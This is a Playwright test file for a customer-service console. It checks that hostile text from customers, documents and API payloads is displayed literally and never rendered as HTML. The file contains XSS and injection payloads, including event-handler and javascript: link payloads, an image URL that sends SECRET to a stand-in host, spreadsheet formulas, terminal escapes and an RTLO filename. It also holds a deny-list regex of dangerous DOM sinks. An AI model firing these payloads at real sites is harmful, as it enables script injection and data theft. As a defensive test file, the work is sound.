"""What customers, documents and other scripts in the page may try, and what the console makes of it."""

from __future__ import annotations

import re
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import expect

from assist.api.page_files import ROOT
from tests.assist.console.browsing import Console, Desk
from tests.assist.console.test_console import OWN, QUESTION

ELSEWHERE = "http://elsewhere.invalid"
STRINGS = [
    f"<img src={ELSEWHERE}/1.png onerror=alert(1)>",
    "<svg/onload=alert(2)><math><mtext><mglyph><style><img src=x onerror=alert(3)>",
    '<a href="\x0bjavascript:alert(4)">a</a><a href="data:text/html;base64,PHNjcmlwdD4=">b</a>',
    "[c](java\tscript:alert(5)) [d](javascript\n:alert(6))",
    f"![e]({ELSEWHERE}/2.png?d=SECRET)",
    "<iframe srcdoc='<script>alert(7)</script>'></iframe><script>alert(8)</script>",
    f"<form action={ELSEWHERE} id=composer><input name=attributes autofocus onfocus=alert(9)></form>",
    f"<base href={ELSEWHERE}><style>@import '{ELSEWHERE}/3.css';</style>",
    f'<meta http-equiv=refresh content="0;url={ELSEWHERE}">',
    "<!-- unclosed <![CDATA[ ]]> ${alert(10)} {{alert(11)}} `",
    "\x1b]8;;http://elsewhere.invalid\x07link\x1b]8;;\x07 \x1b[31mred",
    "=HYPERLINK(1) +cmd|x @SUM(1) \t-2",
    'invoice"><img src=x onerror=alert(12)>.pdf',
    "invoice\u202efdp.exe \u2066\u200b",
    ">" * 10_000 + "*" * 5_000,
]
NODES = (
    "img, script:not([src='/console/console.js']), iframe, svg, math, object, embed, base, style, "
    "a:not(.skip, #to-office), form:not(#sign-in, #begin, #reply, #simulator, #search-form, #ending)"
)


@pytest.mark.browser
def test_hostile_words_of_a_customer_are_shown_as_they_are(console: Console, desk: Desk) -> None:
    name = STRINGS[0] + STRINGS[13]
    customer = "console-hostile"
    desk.send("PUT", f"/v1/customers/{customer}", {"name": name[:200]})
    try:
        id = desk.conversation(customer_id=customer)
        desk.send("PUT", f"/v1/conversations/{id}", {"customer_id": customer, "subject": STRINGS[6]})
        for text in STRINGS:
            turn = {"speaker": "customer", "text": text}
            desk.send("POST", f"/v1/conversations/{id}/turns?answer=later", turn)
        console.open(id)

        console.say_as_customer(STRINGS[7])
        expect(console.page.locator("#turns li p")).to_have_count(len(STRINGS) + 1)
        shown = console.page.locator("#turns li p").evaluate_all("all => all.map(one => one.textContent)")

        assert shown == [*desk.said(id, "customer")]
        assert sorted(shown) == sorted([*STRINGS, STRINGS[7]])
        expect(console.page.locator("#brief h2")).to_have_text(name[:200])
        expect(console.page.locator("#subject")).to_have_text(STRINGS[6])
        expect(console.page.locator(NODES)).to_have_count(0)
    finally:
        console.page.close()
        desk.send("DELETE", f"/v1/customers/{customer}")


@pytest.mark.browser
def test_hostile_documents_are_shown_as_they_are(console: Console, desk: Desk) -> None:
    quote = f"The zorbelfish {STRINGS[0]} {STRINGS[4]} is returned within 77 days \u202eof delivery."
    title = STRINGS[12]
    text = f"# Zorbelfish returns 🐟🐠 ﷽ é\n\n{quote}\n\n" + "\n\n".join(STRINGS[:14])
    body = {"title": title, "text": text, "kind": "policy", "audience": "public"}
    desk.send("PUT", "/v1/documents/console-hostile", body)
    try:
        id = desk.conversation("Within how many days is the zorbelfish returned?")
        console.open(id)
        console.read()
        expect(console.page.locator(NODES)).to_have_count(0)
        [hostile, *_] = [
            one for one in desk.suggestions(id) if one["evidence"][0]["document_id"] == "console-hostile"
        ]
        console.page.keyboard.press(str(hostile["rank"]))
        console.page.keyboard.press("v")

        expect(console.page.locator("#source-title")).to_have_text(title)
        mark = console.page.locator("#source mark").evaluate("mark => mark.textContent")
        assert mark == hostile["evidence"][0]["quote"]
        assert "zorbelfish" in mark
        assert console.page.locator("#source-text").evaluate("text => text.textContent") == text
        expect(console.page.locator(NODES)).to_have_count(0)
    finally:
        desk.send("DELETE", "/v1/documents/console-hostile")


def everywhere(value: Any, but: frozenset[str] = frozenset()) -> Any:
    """The same JSON with something hostile after each text, at any depth; `but` names what is no words."""
    if isinstance(value, dict):
        return {name: one if name in but else everywhere(one, but) for name, one in value.items()}
    if isinstance(value, list):
        return [everywhere(one, but) for one in value]
    return f"{value} {STRINGS[0]}{STRINGS[6]}{STRINGS[13]}" if isinstance(value, str) else value


SWITCHES, SWITCHED_EVERY_MS = 1000, 10
DATES = frozenset({"in_force_from", "in_force_until", "as_of", "by", "at", "first_at", "last_at"})
CHOSEN = frozenset({"id", "document_id", "turn_id", "verdict", "kind", "authority", "confidence", "decision"})


@pytest.mark.browser
def test_hostile_words_in_all_that_a_card_says_are_shown_as_they_are(console: Console, desk: Desk) -> None:
    id = desk.conversation("My fridge is getting warm. I want a refund.", "cust-mira-okafor")
    [playbook, *_] = [one for one in desk.suggestions(id) if one["steps"] and one["actions"]]
    claim = {"said": "yes", "as_of": "2026-11-02"}
    action = {"amount": "5.00", "currency": "EUR", "limit": "25.00", "left": "15.00", "because": "15.00 left"}
    full = {
        **playbook,
        "steps": [{**playbook["steps"][0], "done": True, "because": "turn:1"}, *playbook["steps"][1:]],
        "outcome": {**playbook["outcome"], "reached": False, "because": "It offers a visit"},
        "checks": [{**one, **claim} for one in playbook["checks"]],
        "actions": [{**one, **action} for one in playbook["actions"]],
        "evidence": [{**one, "as_of": "2026-11-02"} for one in playbook["evidence"]],
    }
    hostile = everywhere(full, DATES | CHOSEN)
    shown = {**desk.get(f"/v1/conversations/{id}/suggestions"), "items": [hostile]}
    console.page.route(f"**/v1/conversations/{id}/suggestions", lambda route: route.fulfill(json=shown))
    console.open(id)
    console.read()

    said = console.card.evaluate("card => card.textContent")
    texts = [
        *(one["text"] for one in hostile["steps"]),
        hostile["outcome"]["wanted"],
        hostile["outcome"]["because"],
        *(one["because"] for one in (*hostile["checks"], *hostile["actions"])),
        *(one["said"] for one in hostile["checks"]),
    ]
    assert [text for text in texts if text not in said] == []
    expect(console.page.locator(NODES)).to_have_count(0)


@pytest.mark.browser
def test_hostile_words_in_an_outreach_and_an_incident_are_shown_as_they_are(
    console: Console, desk: Desk
) -> None:
    name, hub = STRINGS[0] + STRINGS[6], {"sku": "LH-3", "name": STRINGS[1], "family": "home_hub"}
    ids = [f"console-hostile-{number}" for number in range(5)]
    for id in ids:
        fridge = {"sku": "FR-520", "name": STRINGS[2], "family": "refrigerator", "serial": id}
        owner = {"name": name, "products": [fridge, hub], "preferences": {"contact": f"chat {STRINGS[4]}"}}
        desk.send("PUT", f"/v1/customers/{id}", owner)
    try:
        for id in ids:
            now = datetime.now(UTC).isoformat()
            down = {"customer_id": id, "kind": "hub.offline", "at": now, "data": {"firmware": STRINGS[0]}}
            desk.send("POST", "/v1/signals", down)
        warm = {"device": ids[0], "kind": "fridge.temperature_high", "at": now, "summary": STRINGS[7]}
        [outreach] = desk.send("POST", "/v1/signals", warm)["outreach"]
        said = "<script>alert(13)</script>"
        shown = everywhere(
            {**outreach, "channel": "chat", "language": "en"}, DATES | CHOSEN | {"customer_id", "say"}
        )
        shown["say"] = outreach["say"] + said
        page = desk.get("/v1/outreach?state=prepared")
        console.page.route(
            "**/v1/outreach?state=prepared&limit=50",
            lambda route: route.fulfill(json={**page, "items": [shown]}),
        )
        console.enter()
        console.page.keyboard.press("b")
        card, incident = console.page.locator("[data-outreach]"), console.page.locator("[data-incident]")
        incident.locator("summary").click()
        expect(incident.locator(".members b")).to_have_text([name] * 5)

        expect(card.locator("h3")).to_have_text(name)
        expect(card.locator("textarea")).to_have_value(shown["say"])
        told = card.evaluate("card => card.textContent")
        texts = [
            shown["reason"]["text"],
            shown["contact"]["text"],
            shown["slot"]["because"],
            shown["language"],
            *(one["text"] for one in shown["guidance"]),
        ]
        assert [text for text in texts if text not in told] == []
        assert STRINGS[0][:60] in incident.evaluate("card => card.textContent")
        expect(console.page.locator(NODES)).to_have_count(0)
    finally:
        console.page.close()
        for id in ids:
            desk.send("DELETE", f"/v1/customers/{id}")


@pytest.mark.browser
def test_gestures_that_a_script_makes_do_nothing(console: Console, desk: Desk) -> None:
    id = desk.conversation(QUESTION)
    console.open(id)
    console.read()
    console.composer.fill(OWN)
    console.page.locator("#customer-says").fill("I did not write this.")
    before = desk.get("/v1/conversations?limit=1")["items"][0]["id"]

    console.page.evaluate(
        """() => {
          const fire = (target, event) => target.dispatchEvent(event);
          for (const one of document.querySelectorAll("button")) {
            one.click();
            fire(one, new MouseEvent("click", { bubbles: true }));
            fire(one, new PointerEvent("pointerdown", { bubbles: true }));
          }
          for (const key of ["a", "e", "o", "x", "v", "b", "j", "k", "2", "Enter"])
            for (const target of [document, document.body, document.querySelector(".card")])
              for (const kind of ["keydown", "keypress", "keyup"])
                fire(target, new KeyboardEvent(kind, { key, bubbles: true }));
          for (const id of ["composer", "customer-says"])
            fire(document.getElementById(id),
                 new KeyboardEvent("keydown", { key: "Enter", ctrlKey: true, bubbles: true }));
          for (const id of ["reply", "simulator", "begin"]) document.getElementById(id).requestSubmit();
        }"""
    )
    console.page.wait_for_timeout(500)

    assert [one["decision"] for one in desk.suggestions(id)] == [None] * len(desk.suggestions(id))
    assert (desk.said(id), desk.said(id, "customer")) == ([], [QUESTION])
    assert desk.get("/v1/stops")["items"] == []
    assert desk.get("/v1/conversations?limit=1")["items"][0]["id"] == before
    expect(console.page.locator("#desk")).to_be_visible()
    expect(console.composer).to_have_value(OWN)


@pytest.mark.browser
def test_a_late_answer_never_shows_in_another_conversation(console: Console, desk: Desk) -> None:
    ids = [desk.conversation(QUESTION), desk.conversation("How do I descale the CremaOne coffee machine?")]
    own = {id: [one["id"] for one in desk.suggestions(id)] for id in ids}
    console.open(ids[0])
    console.read()
    console.page.evaluate(
        """(latest) => {
          const fetched = window.fetch;
          window.fetch = async (...request) => {
            const answer = await fetched(...request);
            await new Promise((resume) => setTimeout(resume, Math.random() * latest));
            return answer;
          };
          window.seen = [];
          const look = () => window.seen.push([
            document.querySelector("[aria-current]")?.dataset.conversation,
            document.getElementById("subject").textContent,
            [...document.querySelectorAll("[data-suggestion]")].map((one) => one.dataset.suggestion),
            [...document.querySelectorAll("#turns p")].map((one) => one.textContent),
          ]);
          new MutationObserver(look).observe(document.body, { childList: true, subtree: true });
        }""",
        60 * SWITCHED_EVERY_MS,  # as 50 ms are to 3 s
    )
    rows = [console.page.locator(f'[data-conversation="{id}"]').bounding_box() for id in ids]
    for step in range(1, SWITCHES):
        row = rows[step % 2]
        assert row is not None
        console.page.mouse.click(row["x"] + 20, row["y"] + 20)
        console.page.wait_for_timeout(SWITCHED_EVERY_MS)
    expect(console.page.locator("[aria-current]")).to_have_attribute("data-conversation", ids[1])
    console.read()

    seen = console.page.evaluate("window.seen")
    foreign = [
        (current, shown)
        for current, _, shown, _ in seen
        if current in own and not set(shown) <= set(own[current])
    ]
    words = {id: desk.said(id, "customer") for id in ids}
    subjects = {id: desk.get(f"/v1/conversations/{id}")["subject"] for id in ids}
    misnamed = [name for current, name, _, _ in seen if name != subjects.get(current, name)]
    misplaced = [(current, said) for current, _, _, said in seen if said and said != words[current]]
    assert (foreign, misplaced, misnamed) == ([], [], [])
    assert any(shown for _, _, shown, _ in seen)


def test_no_part_of_the_console_makes_html_from_text() -> None:
    forbidden = re.compile(
        r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|DOMParser|\beval\(|new Function|javascript:"
        r"|createContextualFragment|setHTML|localStorage(?!\.(?:get|set)Item\(CHOSEN)|\.style\b|https?://(?!www\.w3\.org/2000/svg)"
    )
    found = [
        f"{path.name}: {match.group()}"
        for path in sorted((ROOT / "console").iterdir())
        if path.suffix in {".js", ".html", ".css", ".svg"}
        for match in forbidden.finditer(Path(path).read_text(encoding="utf-8"))
    ]
    assert found == []


def test_the_page_carries_no_script_or_style_of_its_own() -> None:
    page = (ROOT / "console" / "index.html").read_text(encoding="utf-8")
    assert re.findall(r"<script[^>]*>(.*?)</script>", page, re.DOTALL) == [""]
    assert re.findall(r"<style|\son\w+=|\sstyle=", page) == []
